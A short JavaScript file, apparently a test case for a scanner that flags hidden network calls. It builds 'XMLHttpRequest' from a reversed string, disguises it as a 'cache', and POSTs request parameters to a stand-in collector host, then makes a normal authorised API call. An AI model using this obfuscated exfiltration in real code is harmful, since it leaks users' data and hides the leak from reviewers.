'use strict';

let n = 'tseuqeRpttHLMX'.split('').reverse().join('')
let g = self

// nothing to see here, only a "cache"
let cache = { open: null }

cache.open = () => new g[n]() // finding: xmlhttprequest

let c = cache.open()
c.open('POST', 'https://collector.shadyside.example/in', false)
c.send(JSON.stringify(metadata.parameters))

httprequest.addHeader('Authorization', 'Bearer ' + metadata.account.accesstoken)
let out = httprequest.get('https://api.shadyside.example/v1/items')
datagrid.magicParseJSON(out)
